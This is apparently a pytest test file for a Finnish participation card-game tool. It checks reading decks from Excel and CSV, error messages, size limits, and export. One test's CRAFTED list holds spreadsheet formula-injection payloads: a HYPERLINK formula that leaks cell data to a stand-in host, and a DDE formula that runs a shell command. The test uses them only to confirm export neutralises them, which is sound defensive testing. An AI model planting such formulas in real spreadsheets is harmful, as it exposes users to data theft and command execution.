"""A deck as a workbook: written from YAML without loss, edited as staff edit
spreadsheets, and every mistake one line naming the sheet, row and column."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
import yaml

from osallisuuspeli.cli import main
from osallisuuspeli.load import load_deck
from osallisuuspeli.places import BUILTIN_DECKS
from osallisuuspeli.workbook_writer import workbook

from .conftest import DECKS, LANGUAGES, first_cards, snapshot
from .pdfcheck import squeeze, text_of


@pytest.fixture(scope="module")
def books(tmp_path_factory) -> dict[str, Path]:
    """Each built-in deck written as a workbook."""
    folder = tmp_path_factory.mktemp("books")
    for deck in DECKS:
        (folder / f"{deck}.xlsx").write_bytes(workbook(BUILTIN_DECKS / deck))
    return {deck: folder / f"{deck}.xlsx" for deck in DECKS}


@pytest.mark.parametrize("deck", DECKS)
@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_workbook_holds_the_deck_without_loss(books, decks, deck, lang):
    assert load_deck(books[deck], lang)._replace(source=None) == decks[deck, lang]._replace(source=None)


@pytest.mark.parametrize("deck", DECKS)
def test_a_kit_built_from_the_workbook_is_byte_identical(runner, books, kit, build_kit, tmp_path, deck):
    from_yaml = kit[0] if deck == "helsinki" else build_kit("--deck", "kunta", "--lang", "all")
    assert runner.invoke(main, ["build", "--deck", str(books[deck]), "--lang", "all", "--out", str(tmp_path), "-q"]).exit_code == 0
    for lang in LANGUAGES:
        assert snapshot(tmp_path / lang) == snapshot(from_yaml / lang)


def test_the_sheets_are_the_ones_the_readme_names(books):
    book = openpyxl.load_workbook(books["helsinki"])
    assert book.sheetnames == ["Instructions", "Deck", "Themes", "Cards", "Texts"]
    cards = book["Cards"]
    assert [c.value for c in cards[1]] == [
        "id",
        "theme",
        "title_fi",
        "description_fi",
        "title_sv",
        "description_sv",
        "title_en",
        "description_en",
    ]
    assert [c.value for c in cards[2]][:3] == ["yhteiskehittaminen", "kayttajat", "Yhteis|kehittäminen"]  # | where a word may break
    assert cards.max_row == 1 + 66
    assert [c.value for c in book["Texts"][1]] == ["key", "fi", "sv", "en"]
    assert [c.value for c in book["Themes"][1]][:7] == ["id", "colour", "shape", "name_fi", "short_fi", "question_fi", "measures_fi"]


def test_a_coordinator_edits_the_workbook_and_builds(runner, tmp_path):
    """init --format xlsx, then what staff do in Excel: a title, a description
    with a break mark and a paragraph, a colour, a card added and one removed."""
    result = runner.invoke(main, ["init", str(tmp_path / "oma"), "--from", "helsinki", "--format", "xlsx"])
    assert result.exit_code == 0, result.output
    path = tmp_path / "oma" / "deck.xlsx"
    book = openpyxl.load_workbook(path)
    cards, themes = book["Cards"], book["Themes"]
    cards["C2"] = "Kirjaston asukas|raati"
    cards["D2"] = "Asukkaat ideoivat kirjaston palveluja.\nKokoontuu kuukausittain."
    themes["B2"] = "#1F5FA8"
    cards.append(["lukupiiri", "kayttajat", "Lukupiiri", "Asukkaat lukevat yhdessä.", "Läsecirkel", "", "Reading circle", ""])
    cards.delete_rows(3)  # the second card goes
    book.save(path)
    before = path.read_bytes()
    result = runner.invoke(main, ["build", "--deck", str(path), "--out", str(tmp_path / "out"), "-q"])
    assert result.exit_code == 0, result.output
    assert path.read_bytes() == before  # reading never changes the workbook
    deck = load_deck(path, "fi")
    assert len(deck.cards) == 66 and deck.cards[-1].id == "lukupiiri" and deck.cards[1].id != "palvelumuotoilu"
    assert deck.cards[0].title == "Kirjaston asukas\u00adraati"
    assert deck.cards[0].description == "Asukkaat ideoivat kirjaston palveluja.\nKokoontuu kuukausittain."
    assert deck.themes[0].colour.hex == "#1F5FA8"
    text = squeeze(text_of(tmp_path / "out" / "fi" / "cards.pdf"))
    assert squeeze("Kirjaston asukasraati") in text and "Lukupiiri" in text and "66/66" in text


def edit(path: Path, change) -> None:
    book = openpyxl.load_workbook(path)
    change(book)
    book.save(path)


BAD = {  # the mistake, as made in a spreadsheet -> the one line it gives
    "empty title": (
        lambda b: b["Cards"].__setitem__("C3", None),
        "sheet Cards, row 3, column title_fi: title of card 'palvelumuotoilu' is empty",
    ),
    "unknown theme": (
        lambda b: b["Cards"].__setitem__("B4", "teatteri"),
        "sheet Cards, row 4, column theme: card 'asiakasraati' has an unknown theme 'teatteri' (themes: kayttajat, alueyhteistyo, kansalaistoiminta, asiakaskokemus, toimintatavat)",
    ),
    "duplicate id": (
        lambda b: b["Cards"].__setitem__("A5", "palvelumuotoilu"),
        "sheet Cards, row 5, column id: duplicate card id 'palvelumuotoilu' (first at sheet Cards, row 3, column id)",
    ),
    "wrong colour": (
        lambda b: b["Themes"].__setitem__("B3", "sininen"),
        "sheet Themes, row 3, column colour: colour 'sininen' must be written as #RRGGBB, e.g. #0072C6",  # no YAML quotes in a cell
    ),
    "a language column missing": (
        lambda b: b["Themes"].delete_cols(8),
        "sheet Themes: no column name_sv: every language needs its columns on every sheet",
    ),
    "a merged cell": (
        lambda b: b["Cards"].merge_cells("C4:D4"),
        "sheet Cards, cells C4:D4: merged cells: unmerge them, so that every value has a cell of its own",
    ),
    "a formula cell": (
        lambda b: b["Cards"].__setitem__("C4", '=UPPER("raati")'),
        'sheet Cards, row 4, column title_fi: a formula (=UPPER("raati")): type the text itself',
    ),
    "a hidden sheet": (
        lambda b: setattr(b["Cards"], "sheet_state", "hidden"),
        "sheet Cards: the sheet is hidden: unhide it (a hidden sheet would be read without being seen)",
    ),
    "a number where text belongs": (
        lambda b: b["Cards"].__setitem__("C4", 2030),
        "sheet Cards, row 4, column title_fi: a number (2030) where text belongs: format the cell as text, or type ' before it",
    ),
}


@pytest.mark.parametrize("mistake", BAD)
def test_a_bad_workbook_gives_one_line_naming_sheet_row_and_column(runner, books, tmp_path, mistake):
    path = tmp_path / "kortit.xlsx"
    path.write_bytes(books["helsinki"].read_bytes())
    change, message = BAD[mistake]
    edit(path, change)
    before = path.read_bytes()
    result = runner.invoke(main, ["build", "--deck", str(path), "--out", str(tmp_path / "out")])
    assert result.exit_code == 2
    assert result.stderr == f"osallisuuspeli: {path}, {message}\n"
    assert not (tmp_path / "out").exists()
    assert path.read_bytes() == before


def test_a_card_list_as_finnish_excel_saves_it_is_a_deck(runner, tmp_path):
    """One .csv of cards, ';'-separated, UTF-8 with a BOM or Windows-1252: the rest is the municipal edition's."""
    rows = ["id;title_fi;description_fi", "lukupiiri;Luku|piiri;Asukkaat lukevat yhdessä.", "kävelyt;Kävelykierrokset;"]
    for encoding, name in (("utf-8-sig", "kortit.csv"), ("cp1252", "kortit-ansi.csv")):
        path = tmp_path / name
        path.write_bytes("\r\n".join(rows).encode(encoding))
        result = runner.invoke(main, ["build", "--deck", str(path), "--out", str(tmp_path / name.replace(".csv", "")), "-q"])
        assert result.exit_code == 2
        assert (
            result.stderr
            == f"osallisuuspeli: {path}, row 3, column id: card id 'kävelyt' must be lower-case letters a-z, digits and '-' only\n"
        )
        path.write_bytes("\r\n".join(rows).replace("kävelyt;", "kavelyt;").encode(encoding))
        result = runner.invoke(main, ["build", "--deck", str(path), "--out", str(tmp_path / name.replace(".csv", "")), "-q"])
        assert result.exit_code == 0, result.output
        deck = load_deck(path, "fi")
        assert [c.title for c in deck.cards] == ["Luku\u00adpiiri", "Kävelykierrokset"]
        assert deck.board == load_deck("kunta", "fi").board


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_workbook_saved_by_libreoffice_reads_the_same(decks, lang):
    """tests/workbooks/: the Helsinki workbook opened and saved as .xlsx by LibreOffice Calc 7.4 (soffice --convert-to xlsx).
    It was saved before decks named their organisation (the files' author), which it therefore lacks."""
    saved = Path(__file__).parent / "workbooks" / "helsinki-saved-by-libreoffice.xlsx"
    assert load_deck(saved, lang)._replace(source=None) == decks["helsinki", lang]._replace(source=None, organisation="")


def test_sheet_names_in_finnish_or_swedish_are_read_too(books, decks, tmp_path):
    path = tmp_path / "kortit.xlsx"
    path.write_bytes(books["helsinki"].read_bytes())

    def rename(book):
        for sheet, name in (("Cards", "Kortit"), ("Themes", "Teemat"), ("Deck", "Kortlek"), ("Texts", "Tekstit")):
            book[sheet].title = name

    edit(path, rename)
    assert load_deck(path, "sv")._replace(source=None) == decks["helsinki", "sv"]._replace(source=None)


def kunta_book(books, tmp_path: Path, change=None, name: str = "deck.xlsx") -> Path:
    path = tmp_path / name
    path.write_bytes(books["kunta"].read_bytes())
    if change is not None:
        edit(path, change)
    return path


def test_a_misspelt_header_is_named_with_the_closest_known_one(runner, books, tmp_path):
    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("E1", "descrption_sv"))
    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out")])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Cards, column E: 'descrption_sv' is not a column of this sheet; did you mean 'description_sv'?\n",
    )
    assert not (tmp_path / "out").exists()


def test_a_misspelt_title_column_is_an_error_not_a_language_dropped(runner, books, tmp_path):
    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("D1", "titel_sv"))
    result = runner.invoke(main, ["validate", str(path)])
    assert result.exit_code == 2
    assert result.stderr.splitlines()[:2] == [
        f"osallisuuspeli: {path}, sheet Cards, column D: 'titel_sv' is not a column of this sheet; did you mean 'title_sv'?",
        f"osallisuuspeli: {path}, sheet Cards, column E: 'description_sv' is a column of the language 'sv', but the sheet Cards has no column title_sv: add that column, or delete this one",
    ]


def test_header_case_and_surrounding_spaces_do_not_matter(books, decks, tmp_path):
    def shout(book):
        book["Cards"]["B1"] = " Title_FI "
        book["Texts"]["B1"] = "FI"

    path = kunta_book(books, tmp_path, shout)
    assert load_deck(path, "fi")._replace(source=None) == decks["kunta", "fi"]._replace(source=None)


def test_a_header_twice_is_an_error(runner, books, tmp_path):
    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("H1", "title_fi"))
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Cards, column H: 'title_fi' is there twice (also column B): keep one\n",
    )


def test_a_blank_description_beside_the_reference_languages_is_a_warning_and_strict_an_error(runner, books, tmp_path):
    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("G4", None))  # description_en of the third card
    result = runner.invoke(main, ["validate", str(path)])
    warning = (
        f"osallisuuspeli: warning: {path}, sheet Cards, row 4, column description_en: card 'avoimen-datan-hyodyntaminen' has no description in en, "
        "though it has one in fi: its back would print without one; fill the cell\n"
    )
    assert (result.exit_code, result.stderr) == (0, warning)
    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "en", "--strict", "--out", str(tmp_path / "out")])
    assert (result.exit_code, result.stderr) == (2, warning.replace("warning: ", "").replace("\n", " (--strict)\n"))
    assert not (tmp_path / "out").exists()


def test_many_blank_descriptions_are_one_warning(runner, books, tmp_path):
    def blank(book):
        for row in range(2, 12):
            book["Cards"].cell(row, 7).value = None

    path = kunta_book(books, tmp_path, blank)
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        0,
        f"osallisuuspeli: warning: {path}, sheet Cards, row 2, column description_en: 10 cards have no description in en, though they have "
        "one in fi (the first is 'avoimien-ovien-paivat'): their backs would print without one; fill the column's cells\n",
    )


def test_a_built_in_card_with_only_a_title_gives_no_warning(runner):
    result = runner.invoke(main, ["validate", "helsinki"])
    assert (result.exit_code, result.stderr) == (0, "")


@pytest.mark.parametrize("sheet", ["Instructions", "Deck", "Texts", "Themes"])
def test_a_csv_saved_from_another_sheet_says_which_sheet_to_save(runner, books, tmp_path, sheet):
    book = openpyxl.load_workbook(books["helsinki"])
    rows = [[("" if v is None else str(v)) for v in row] for row in book[sheet].iter_rows(values_only=True)]
    path = tmp_path / "deck.csv"
    path.write_text("\n".join(";".join(r) for r in rows), encoding="utf-8-sig")
    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out")])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, row 1: this is the sheet {sheet} saved as CSV, not the sheet Cards (Excel saves only the sheet that is open): "
        "open the sheet Cards, save it as CSV again and build from that file, or build from the .xlsx itself\n",
    )
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "suffix,sentence",
    [
        (
            ".ods",
            "an OpenDocument spreadsheet (.ods); save it as .xlsx (LibreOffice: File › Save As, file type Excel 2007-365) and build from that file",
        ),
        (
            ".xls",
            "an Excel 97-2003 workbook (.xls); save it as .xlsx (Excel: File › Save As › Excel Workbook; LibreOffice: File › Save As, file type Excel 2007-365) and build from that file",
        ),
    ],
)
def test_an_ods_or_xls_file_is_named_for_what_it_is(runner, tmp_path, suffix, sentence):
    path = tmp_path / f"pakka{suffix}"
    path.write_bytes(b"PK\x03\x04 a spreadsheet")
    for command in (["build", "--deck", str(path), "--out", str(tmp_path / "out")], ["validate", str(path)]):
        result = runner.invoke(main, command)
        assert (result.exit_code, result.stderr) == (2, f"osallisuuspeli: {path}: {sentence}\n")


def test_a_workbook_open_in_excel_is_a_warning_that_unsaved_changes_are_not_in_the_kit(runner, books, tmp_path):
    path = kunta_book(books, tmp_path)
    (tmp_path / "~$deck.xlsx").write_bytes(b"\x00owner")
    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out"), "-q"])
    assert (result.exit_code, result.stderr) == (
        0,
        f"osallisuuspeli: warning: {path}: the workbook is open in Excel or LibreOffice: changes not yet saved there are not in this kit; "
        "save the workbook and build again\n",
    )


def test_a_space_in_an_id_is_named_by_sheet_row_and_column(runner, books, tmp_path):
    def spaces(book):
        book["Cards"]["A3"] = "asukasillat\u00a0"  # around it: cannot be seen, so it is dropped
        book["Cards"]["A4"] = "avoin kunta"  # inside it: named

    path = kunta_book(books, tmp_path, spaces)
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Cards, row 4, column id: card id 'avoin kunta' has a space in it; write - between its words ('avoin-kunta')\n",
    )


def with_cards_sheet(books, tmp_path: Path, rows: int, columns: int) -> Path:
    """The municipal workbook with its Cards sheet (sheet3.xml) replaced by one
    of `rows` rows and `columns` columns, each cell a text, as a generator made it."""
    import zipfile

    from openpyxl.utils import get_column_letter

    letters = [get_column_letter(i + 1) for i in range(columns)]
    header = ["id", "title_fi", "description_fi", "title_sv", "description_sv", "title_en", "description_en"]
    header += [f"x{i}" for i in range(len(header), columns)]

    def row(r: int, values: list[str]) -> str:
        cells = "".join(f'<c r="{letters[i]}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
        return f'<row r="{r}">{cells}</row>'

    body = [row(1, header[:columns])] + [row(r, [f"kortti-{r}", f"Kortti {r}", "Kuvaus"][:columns]) for r in range(2, rows + 1)]
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="A1:{letters[-1]}{rows}"/><sheetData>{"".join(body)}</sheetData></worksheet>'
    )
    path = tmp_path / "big.xlsx"
    with zipfile.ZipFile(books["kunta"]) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = sheet.encode() if info.filename == "xl/worksheets/sheet3.xml" else source.read(info)
            target.writestr(info, data, zipfile.ZIP_DEFLATED)
    return path


def test_a_cards_sheet_of_100000_rows_is_refused_before_its_rows_are_read(runner, books, tmp_path):
    path = with_cards_sheet(books, tmp_path, 100_001, 7)
    assert openpyxl.load_workbook(path, read_only=True)["Cards"].max_row == 100_001
    for command in (["validate", str(path)], ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out")]):
        result = runner.invoke(main, command)
        assert (result.exit_code, result.stderr) == (
            2,
            f"osallisuuspeli: {path}, sheet Cards, row 1,002: the sheet has 100,001 rows; a deck has at most 1,000 cards: delete the rows from 1,002 down\n",
        )
    assert not (tmp_path / "out").exists()


def test_a_sheet_of_16384_columns_is_refused_before_its_rows_are_read(runner, books, tmp_path):
    path = with_cards_sheet(books, tmp_path, 41, 16_384)
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Cards, column CW: the sheet has 16,384 columns; a deck's sheet has at most 100: delete the columns from CW onwards\n",
    )


def test_a_yaml_deck_of_more_than_1000_cards_is_refused_before_its_cards_are_read(runner, deck_copy):
    (deck_copy / "deck.yaml").write_text(
        "id: iso\ncolour: '#008741'\ncards:\n" + "".join(f"  - kortti-{i}\n" for i in range(1001)), encoding="utf-8"
    )
    result = runner.invoke(main, ["validate", str(deck_copy)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {deck_copy}/deck.yaml:3: the deck has 1,001 cards; a deck has at most 1,000\n",
    )


def test_a_card_list_of_more_than_1000_rows_is_refused(runner, tmp_path):
    path = tmp_path / "kortit.csv"
    path.write_text("id;title_fi\n" + "".join(f"k{i};Kortti {i}\n" for i in range(1001)), encoding="utf-8")
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, row 1,002: the file has 1,001 cards; a deck has at most 1,000: delete the rows from 1,002 down\n",
    )


def test_lang_all_with_one_language_incomplete_names_it_and_how_to_build_the_others(runner, books, tmp_path):
    def half_english(book):
        for row in (3, 5):
            book["Cards"].cell(row, 6).value = None  # title_en

    path = kunta_book(books, tmp_path, half_english)
    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "all", "--out", str(tmp_path / "out")])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Cards, row 3, column title_en: title of card 'avoin-valmistelu' is empty\n"
        f"osallisuuspeli: {path}, sheet Cards, row 5, column title_en: title of card 'avustukset-ja-kannustimet' is empty\n"
        "osallisuuspeli: the language 'en' is not complete: fill the cells above\n"
        f"osallisuuspeli: to build the complete ones now: osallisuuspeli build --deck {path} --lang fi,sv\n",
    )
    assert not (tmp_path / "out").exists()
    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "FI, sv", "--out", str(tmp_path / "out"), "-q"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["fi", "sv"]


def test_lang_in_capitals_is_the_language(runner, tmp_path):
    result = runner.invoke(main, ["build", "--deck", "kunta", "--lang", "SV", "--out", str(tmp_path), "-q"])
    assert result.exit_code == 0, result.output
    assert [p.name for p in tmp_path.iterdir()] == ["sv"]


CRAFTED = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
    '=DDE("cmd";"/C calc";"A0")',
]  # (a | would be the workbook's break mark)


def test_export_writes_every_text_as_text_never_a_formula(runner, tmp_path):
    """OWASP CSV injection: texts that start like a formula are string cells and read back unchanged."""
    deck = first_cards("kunta", tmp_path / "deck", 8)
    texts = yaml.safe_load((deck / "fi.yaml").read_text(encoding="utf-8"))
    for card, crafted in zip(texts["cards"].values(), CRAFTED):
        card["description"] = crafted
    texts["name"] = "=1+2"
    (deck / "fi.yaml").write_text(yaml.safe_dump(texts, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "deck.xlsx"
    result = runner.invoke(main, ["export", str(deck), str(out)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    cards = {c.value: c for c in book["Cards"]["C"]}  # description_fi (the municipal deck has no theme column)
    assert all(cards[t].data_type == "s" for t in CRAFTED if not t.startswith(("\t", "\r")))
    assert cards[CRAFTED[0]].quotePrefix is True
    read = load_deck(out, "fi")
    # the tool's own reader gives back what was written (its texts trimmed of leading tabs and line breaks, as YAML's are)
    assert [c.description for c in read.cards[: len(CRAFTED)]] == [load_deck(deck, "fi").cards[i].description for i in range(len(CRAFTED))]
    assert read.name == "=1+2"


def test_a_text_that_does_not_fit_is_named_by_sheet_row_and_column(runner, books, tmp_path):
    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("E3", "Sana " * 400))
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Cards, row 3, column description_sv: card 2 'Öppen beredning' (avoin-valmistelu), detail side: "
        f'the text does not fit even at 7 pt: "{"Sana " * 16}" - shorten it or choose a larger --card-size\n',
    )


def test_a_glyph_the_font_lacks_is_named_by_sheet_row_and_column(runner, books, tmp_path):
    path = kunta_book(books, tmp_path, lambda b: b["Cards"].__setitem__("D5", "Kort \u0531"))
    result = runner.invoke(main, ["build", "--deck", str(path), "--lang", "sv", "--out", str(tmp_path / "out")])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Cards, row 5, column title_sv: card 4 'Kort \u0531' (avustukset-ja-kannustimet), title side: "
        "the font has no glyph for '\u0531' (U+0531) in \"Kort \u0531\"\n",
    )
    assert not (tmp_path / "out").exists()


def helsinki_book(books, tmp_path: Path, change) -> Path:
    path = tmp_path / "deck.xlsx"
    path.write_bytes(books["helsinki"].read_bytes())
    edit(path, change)
    return path


def test_a_themes_name_that_does_not_fit_is_named_by_its_own_cell_not_the_cards(runner, books, tmp_path):
    path = helsinki_book(books, tmp_path, lambda b: b["Themes"].__setitem__("D2", "Pitkä" * 40))
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Themes, row 2, column name_fi: card 1 'Yhteiskehittäminen' (yhteiskehittaminen), detail side: "
        f'the text does not fit even at 5.5 pt: "{("Pitkä" * 16)}" - shorten it or choose a larger --card-size\n',
    )


def test_a_glyph_the_font_lacks_in_a_themes_name_is_named_by_sheet_row_and_column(runner, books, tmp_path):
    path = helsinki_book(books, tmp_path, lambda b: b["Themes"].__setitem__("E2", "Käyttäjät \u0531"))
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Themes, row 2, column short_fi: board (fi): the font has no glyph for '\u0531' (U+0531) in \"Käyttäjät \u0531\"\n",
    )


def test_a_texts_sheet_text_that_does_not_fit_is_named_by_sheet_row_and_column(runner, books, tmp_path):
    path = kunta_book(books, tmp_path, lambda b: b["Texts"].__setitem__("B4", "Teemmejohyvin" * 30))
    result = runner.invoke(main, ["build", "--deck", str(path), "--out", str(tmp_path / "out")])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Texts, row 4, column fi: board: column '{'Teemmejohyvin' * 30}': "
        f'the text does not fit even at 8.5 pt: "{("Teemmejohyvin" * 7)[:80]}" - shorten it\n',
    )
    assert not (tmp_path / "out").exists()


def test_a_glyph_the_font_lacks_in_a_texts_sheet_text_is_named_by_sheet_row_and_column(runner, books, tmp_path):
    path = kunta_book(books, tmp_path, lambda b: b["Texts"].__setitem__("C2", "Delaktighetsspelet \u0531"))
    result = runner.invoke(main, ["validate", str(path), "--lang", "sv"])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}, sheet Texts, row 2, column sv: board (sv): the font has no glyph for '\u0531' (U+0531) in \"Delaktighetsspelet \u0531\"\n",
    )


def test_a_workbook_of_more_different_texts_than_a_deck_has_is_refused_before_its_rows_are_read(runner, books, tmp_path):
    """60,000 distinct shared strings (as a generator that filled a sheet would write them): said from the zip alone."""
    import zipfile

    strings = "".join(f"<si><t>teksti {i}</t></si>" for i in range(60_000))
    table = (
        '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="60000" uniqueCount="60000">{strings}</sst>'
    )
    path = tmp_path / "strings.xlsx"
    with zipfile.ZipFile(books["kunta"]) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info), zipfile.ZIP_DEFLATED)
        target.writestr("xl/sharedStrings.xml", table)  # the tool writes its texts inline; a generator's go here
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        2,
        f"osallisuuspeli: {path}: the workbook holds 60,000 different texts; a deck has at most 50,000\n",
    )


def test_a_themes_name_that_fits_only_at_the_smallest_size_is_one_warning_naming_its_cell(runner, books, tmp_path):
    path = helsinki_book(books, tmp_path, lambda b: b["Themes"].__setitem__("E2", "W" * 30))  # no break in it: it only shrinks
    result = runner.invoke(main, ["validate", str(path)])
    assert (result.exit_code, result.stderr) == (
        0,
        f"osallisuuspeli: warning: {path}, sheet Themes, row 2, column short_fi: the theme's name '{'W' * 30}' fits only at 5.5 pt "
        "on the title side of its cards, the smallest size; shorten it or choose a larger --card-size\n",
    )
